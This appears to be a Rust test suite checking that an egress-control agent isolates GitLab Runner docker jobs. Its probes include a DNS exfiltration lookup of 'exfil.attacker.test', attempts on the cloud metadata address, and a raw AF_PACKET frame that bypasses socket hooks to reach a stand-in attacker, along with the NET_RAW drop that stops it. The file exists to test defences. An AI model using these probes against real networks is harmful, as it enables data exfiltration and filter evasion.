//! GitLab Runner's docker executor, played with a real Docker daemon in the
//! test world: job and service containers started as the executor starts
//! them (`--cgroup-parent` = the runner's cgroup, GitLab's labels), on the
//! default bridge with a link and on a network per build. A job reaches
//! its own services and the forge, and nothing of another job's; its DNS
//! goes through the runner's proxy. (What stands in for gitlab-runner
//! itself: these `docker run` arguments, taken from its docker executor.)

use std::time::Duration;

use egret_tests::{
    agent, docker::Dockerd, job::Outcome, poll_until, privileged, scenario::Scenario, world,
};
use serde_json::Value;

/// The forge and the registry, and the DNS proxy where containers reach it.
const ALLOW: &str = "- cidr: 203.0.113.10/32\n  ports: [443]\n  proto: tcp\n- host: registry.test\n  ports: [443]\n";
const BRIDGE_GATEWAY: &str = "172.17.0.1";
const JOB_LABEL: &str = "com.gitlab.gitlab-runner.job.id";

/// The world, a Docker daemon in it, and an agent following that daemon,
/// with the runner's DNS proxy on the bridge gateway.
fn start() -> (Scenario, Dockerd) {
    let mut s = Scenario::prepare("enforce", ALLOW);
    let text = std::fs::read_to_string(&s.policy).expect("policy");
    world::write_file(
        &s.policy,
        &text.replace(
            "    dns:\n",
            &format!("    dns:\n      listen: {BRIDGE_GATEWAY}\n"),
        ),
    );
    let d = Dockerd::start(&s.world);
    let socket = d.socket.display().to_string();
    s.start_agent_with(&["--docker-socket", &socket]);
    (s, d)
}

/// GitLab's labels for a container of job `job` (`build` or `service`).
fn labels(job: &str, kind: &str) -> Vec<String> {
    vec![
        "--label".into(),
        format!("{JOB_LABEL}={job}"),
        "--label".into(),
        format!("com.gitlab.gitlab-runner.job.url=https://gitlab.test/group/proj/-/jobs/{job}"),
        "--label".into(),
        "com.gitlab.gitlab-runner.job.ref=main".into(),
        "--label".into(),
        "com.gitlab.gitlab-runner.pipeline.id=77".into(),
        "--label".into(),
        format!("com.gitlab.gitlab-runner.type={kind}"),
    ]
}

/// Starts a container of job `job` that lives until the test ends.
fn container(
    s: &Scenario,
    d: &mut Dockerd,
    job: &str,
    kind: &str,
    name: &str,
    extra: &[&str],
    action: &str,
) -> String {
    start_container(s, d, job, kind, name, extra, false, action)
}

/// As [`container`], running as root when `root` (the labelled root cases).
#[allow(clippy::too_many_arguments)]
fn start_container(
    s: &Scenario,
    d: &mut Dockerd,
    job: &str,
    kind: &str,
    name: &str,
    extra: &[&str],
    root: bool,
    action: &str,
) -> String {
    let mut args: Vec<String> = vec!["--name".into(), name.into()];
    args.extend(labels(job, kind));
    args.extend(extra.iter().map(|a| (*a).to_owned()));
    let args: Vec<&str> = args.iter().map(String::as_str).collect();
    d.run(&s.world, &s.runner_cgroup, &args, root, &[action])
}

/// Waits until the agent follows every container named.
fn wait_known(s: &Scenario, names: &[&str]) {
    poll_until(
        "the agent to know the containers",
        Duration::from_secs(20),
        || {
            let out = agent::cli(&s.world, &["status", "--json"]);
            let Ok(v) = serde_json::from_str::<Value>(&out.stdout) else {
                return false;
            };
            let known: Vec<&str> = v["agent"]["containers"]
                .as_array()
                .map(|cs| cs.iter().filter_map(|c| c["name"].as_str()).collect())
                .unwrap_or_default();
            names.iter().all(|n| known.contains(n))
        },
    );
}

fn assert_banner(o: &Outcome, what: &str) {
    assert_eq!(o.banner.as_deref(), Some("job listener"), "{what}: {o:?}");
}

#[test]
fn a_job_container_reaches_its_service_on_the_default_bridge_and_nothing_else() {
    if !privileged("a_job_container_reaches_its_service_on_the_default_bridge_and_nothing_else") {
        return;
    }
    let (s, mut d) = start();
    let service = container(
        &s,
        &mut d,
        "41",
        "service",
        "svc-41",
        &[],
        "listen:0.0.0.0:5432:600000",
    );
    let theirs = container(
        &s,
        &mut d,
        "42",
        "service",
        "svc-42",
        &[],
        "listen:0.0.0.0:5432:600000",
    );
    let dns = format!("--dns={BRIDGE_GATEWAY}");
    let job = container(
        &s,
        &mut d,
        "41",
        "build",
        "build-41",
        &["--link", "svc-41:postgres", &dns],
        "sleep:600000",
    );
    wait_known(&s, &["svc-41", "svc-42", "build-41"]);
    let (svc_ip, their_ip) = (d.addr(&service, "bridge"), d.addr(&theirs, "bridge"));

    let o = d.exec(
        &job,
        false,
        &[
            "tcp-host:postgres:5432",
            &format!("tcp:{svc_ip}:6379"),
            "tcp:203.0.113.10:443",
            "tcp:198.51.100.66:443",
            "tcp:169.254.169.254:80",
            "tcp:10.0.0.5:22",
            &format!("tcp:{their_ip}:5432"),
            &format!("dns:registry.test:A:udp@{BRIDGE_GATEWAY}:53"),
            "dns:exfil.attacker.test:A:udp@198.51.100.66:53",
        ],
    );
    assert_banner(&o[0], "its service, by the link's name");
    assert_eq!(o[0].answers.as_deref(), Some(&[svc_ip.clone()][..]));
    assert_eq!(
        o[1].errno,
        Some(libc::ECONNREFUSED),
        "any port of its service passes egret (nothing listens there): {:?}",
        o[1]
    );
    assert_eq!(
        o[2].banner.as_deref(),
        Some("fixture 203.0.113.10:443"),
        "the forge: {:?}",
        o[2]
    );
    for (i, what) in [
        (3, "the attacker"),
        (4, "metadata"),
        (5, "the neighbour"),
        (6, "another job's service"),
    ] {
        assert!(o[i].eperm(), "{what}: {:?}", o[i]);
    }
    assert_eq!(o[7].rcode.as_deref(), Some("NoError"), "{:?}", o[7]);
    assert!(
        !o[7].answers.as_ref().is_none_or(Vec::is_empty),
        "{:?}",
        o[7]
    );
    assert_eq!(o[8].rcode.as_deref(), Some("Refused"), "{:?}", o[8]);
    assert!(
        s.world.dns_queries().iter().all(|q| !q.contains("exfil")),
        "the tunnelled name never reached the upstream"
    );

    // Without egret's knowledge of the job the same service is lateral:
    // a container of job 42 gets EPERM for job 41's service.
    let o = d.exec(&theirs, false, &[&format!("tcp:{svc_ip}:5432")]);
    assert!(o[0].eperm(), "{:?}", o[0]);
    let ev = s
        .wait_event(|e| e["reason"] == "lateral" && e["dst"] == svc_ip.as_str())
        .expect("a lateral event for the other job's attempt");
    assert_eq!(ev["job"]["id"], "42", "{ev}");
    assert_eq!(ev["job"]["source"], "labels", "{ev}");
    assert_eq!(ev["job"]["project"], "group/proj", "{ev}");
    let ev = s
        .wait_event(|e| e["reason"] == "metadata")
        .expect("a metadata event");
    assert_eq!(ev["job"]["id"], "41", "{ev}");
}

#[test]
fn a_network_per_build_resolves_the_service_alias_through_the_proxy() {
    if !privileged("a_network_per_build_resolves_the_service_alias_through_the_proxy") {
        return;
    }
    let (s, mut d) = start();
    for job in ["41", "42"] {
        d.ok(&["network", "create", &format!("build-{job}")]);
    }
    let net41 = "--network=build-41";
    let service = container(
        &s,
        &mut d,
        "41",
        "service",
        "svc-41",
        &[net41, "--network-alias=postgres"],
        "listen:0.0.0.0:5432:600000",
    );
    let theirs = container(
        &s,
        &mut d,
        "42",
        "service",
        "svc-42",
        &["--network=build-42", "--network-alias=postgres"],
        "listen:0.0.0.0:5432:600000",
    );
    let job = container(
        &s,
        &mut d,
        "41",
        "build",
        "build-41",
        &[net41],
        "sleep:600000",
    );
    wait_known(&s, &["svc-41", "svc-42", "build-41"]);
    let svc_ip = d.addr(&service, "build-41");
    let their_ip = d.addr(&theirs, "build-42");

    let o = d.exec(
        &job,
        false,
        &[
            "dns:postgres:A:udp@127.0.0.11:53",
            "tcp-host:postgres:5432",
            "dns:svc-42:A:udp@127.0.0.11:53",
            &format!("tcp:{their_ip}:5432"),
            "dns:registry.test:A:udp@127.0.0.11:53",
            "dns:exfil.attacker.test:A:udp@127.0.0.11:53",
            "tcp:203.0.113.10:443",
        ],
    );
    assert_eq!(o[0].rcode.as_deref(), Some("NoError"), "{:?}", o[0]);
    assert_eq!(
        o[0].answers.as_deref(),
        Some(&[svc_ip.clone()][..]),
        "{:?}",
        o[0]
    );
    assert_banner(&o[1], "its service by alias");
    assert_eq!(
        o[2].rcode.as_deref(),
        Some("Refused"),
        "another job's container: {:?}",
        o[2]
    );
    assert!(o[3].eperm(), "another job's service: {:?}", o[3]);
    assert_eq!(o[4].rcode.as_deref(), Some("NoError"), "{:?}", o[4]);
    assert_eq!(o[5].rcode.as_deref(), Some("Refused"), "{:?}", o[5]);
    assert_eq!(
        o[6].banner.as_deref(),
        Some("fixture 203.0.113.10:443"),
        "{:?}",
        o[6]
    );
    // The other job resolves its own postgres, not job 41's.
    let o = d.exec(&theirs, false, &["dns:postgres:A:udp@127.0.0.11:53"]);
    assert_eq!(o[0].answers.as_deref(), Some(&[their_ip][..]), "{:?}", o[0]);
}

/// The Docker daemon stopped and started again while a job runs (its
/// containers live on, as with live-restore): the job keeps its service and
/// stays held, and once the daemon is back the agent follows new jobs.
#[test]
fn a_docker_restart_mid_job_keeps_enforcement_and_the_agent_catches_up() {
    if !privileged("a_docker_restart_mid_job_keeps_enforcement_and_the_agent_catches_up") {
        return;
    }
    let (s, mut d) = start();
    // A network per build: after a restart this dockerd hands out the
    // default bridge's addresses again, even those of live containers.
    for job in ["41", "43"] {
        d.ok(&["network", "create", &format!("build-{job}")]);
    }
    let net41 = "--network=build-41";
    let service = container(
        &s,
        &mut d,
        "41",
        "service",
        "svc-41",
        &[net41],
        "listen:0.0.0.0:5432:600000",
    );
    let job = container(
        &s,
        &mut d,
        "41",
        "build",
        "build-41",
        &[net41],
        "sleep:600000",
    );
    wait_known(&s, &["svc-41", "build-41"]);
    let svc_ip = d.addr(&service, "build-41");
    let (pid, full_id) = (d.pid(&job), d.ok(&["inspect", "--format", "{{.Id}}", &job]));
    let procs = s.cgroup.procs(&format!("ci/{full_id}"));
    d.stop();
    // While the daemon is away, a job process in the container's network
    // namespace and cgroup (no docker exec without a daemon): it keeps its
    // way to the service and stays refused the attacker.
    let o = egret_tests::docker::run_in_container(
        pid,
        &procs,
        &[&format!("tcp:{svc_ip}:5432"), "tcp:198.51.100.66:443"],
    );
    assert_banner(&o[0], "its service while the daemon is away");
    assert!(o[1].eperm(), "{:?}", o[1]);
    d.restart(&s.world);
    let o = d.exec(
        &job,
        false,
        &[&format!("tcp:{svc_ip}:5432"), "tcp:198.51.100.66:443"],
    );
    assert_banner(&o[0], "its service across the restart");
    assert!(o[1].eperm(), "{:?}", o[1]);
    // A new job after the restart is followed too, and kept apart.
    let net43 = "--network=build-43";
    let service2 = container(
        &s,
        &mut d,
        "43",
        "service",
        "svc-43",
        &[net43],
        "listen:0.0.0.0:5432:600000",
    );
    let job2 = container(
        &s,
        &mut d,
        "43",
        "build",
        "build-43",
        &[net43],
        "sleep:600000",
    );
    wait_known(&s, &["svc-43", "build-43"]);
    let svc2_ip = d.addr(&service2, "build-43");
    let o = d.exec(
        &job2,
        false,
        &[
            &format!("tcp:{svc2_ip}:5432"),
            &format!("tcp:{svc_ip}:5432"),
        ],
    );
    assert_banner(&o[0], "the new job's service");
    assert!(o[1].eperm(), "the old job's service: {:?}", o[1]);
}

/// Root in a default container holds CAP_NET_RAW: an AF_PACKET frame,
/// below every socket hook, reaches the attacker (the labelled root case),
/// and the agent reports the job as `privileged_job`. With
/// `cap_drop = ["NET_RAW"]` in config.toml (`--cap-drop NET_RAW`), the
/// same job gets EPERM at `socket()` and is not reported.
#[test]
fn root_with_net_raw_in_a_container_is_outside_egret_and_reported() {
    if !privileged("root_with_net_raw_in_a_container_is_outside_egret_and_reported") {
        return;
    }
    let (s, mut d) = start();
    let root = start_container(
        &s,
        &mut d,
        "51",
        "build",
        "build-root",
        &[],
        true,
        "sleep:600000",
    );
    let o = d.exec(
        &root,
        true,
        &[
            "udp-sendto:198.51.100.66:443",
            "packet-udp:198.51.100.66:443",
        ],
    );
    assert!(o[0].eperm(), "egret holds the job's sockets: {:?}", o[0]);
    assert_eq!(
        o[1].banner.as_deref(),
        Some("egret-raw-frame"),
        "the frame reached the attacker, which echoed it: {:?}",
        o[1]
    );
    let ev = s
        .wait_event(|e| e["reason"] == "privileged_job" && e["job"]["id"] == "51")
        .expect("a privileged_job report naming the job");
    assert!(
        ev["capabilities"]
            .as_array()
            .is_some_and(|c| c.iter().any(|c| c == "CAP_NET_RAW")),
        "{ev}"
    );
    assert_eq!(ev["job"]["source"], "labels", "{ev}");

    // The fix: the runner drops NET_RAW.
    let dropped = start_container(
        &s,
        &mut d,
        "52",
        "build",
        "build-dropped",
        &["--cap-drop=NET_RAW"],
        true,
        "sleep:600000",
    );
    let o = d.exec(
        &dropped,
        true,
        &["packet-udp:198.51.100.66:443", "sleep:2500"],
    );
    assert!(o[0].eperm(), "no AF_PACKET without NET_RAW: {:?}", o[0]);
    assert!(
        s.agent()
            .events()
            .iter()
            .all(|e| e["reason"] != "privileged_job" || e["job"]["id"] != "52"),
        "a root job without those capabilities is not reported"
    );
}

/// Containers without GitLab's labels: those sharing a user-defined
/// network belong together; on the default bridge nothing is grouped, and
/// their neighbours stay lateral.
#[test]
fn unlabelled_containers_are_grouped_by_their_network_only() {
    if !privileged("unlabelled_containers_are_grouped_by_their_network_only") {
        return;
    }
    let (s, mut d) = start();
    d.ok(&["network", "create", "shared-build"]);
    let run = |d: &mut Dockerd, name: &str, extra: &[&str], action: &str| {
        let mut args = vec!["--name", name];
        args.extend_from_slice(extra);
        d.run(&s.world, &s.runner_cgroup, &args, false, &[action])
    };
    let net = "--network=shared-build";
    let db = run(&mut d, "db", &[net], "listen:0.0.0.0:5432:600000");
    let app = run(&mut d, "app", &[net], "sleep:600000");
    let lone_db = run(&mut d, "lone-db", &[], "listen:0.0.0.0:5432:600000");
    let lone_app = run(&mut d, "lone-app", &[], "sleep:600000");
    wait_known(&s, &["db", "app", "lone-db", "lone-app"]);
    let o = d.exec(
        &app,
        false,
        &[&format!("tcp:{}:5432", d.addr(&db, "shared-build"))],
    );
    assert_banner(&o[0], "a container on the same user-defined network");
    let o = d.exec(
        &lone_app,
        false,
        &[&format!("tcp:{}:5432", d.addr(&lone_db, "bridge"))],
    );
    assert!(
        o[0].eperm(),
        "the default bridge groups nothing: {:?}",
        o[0]
    );
}
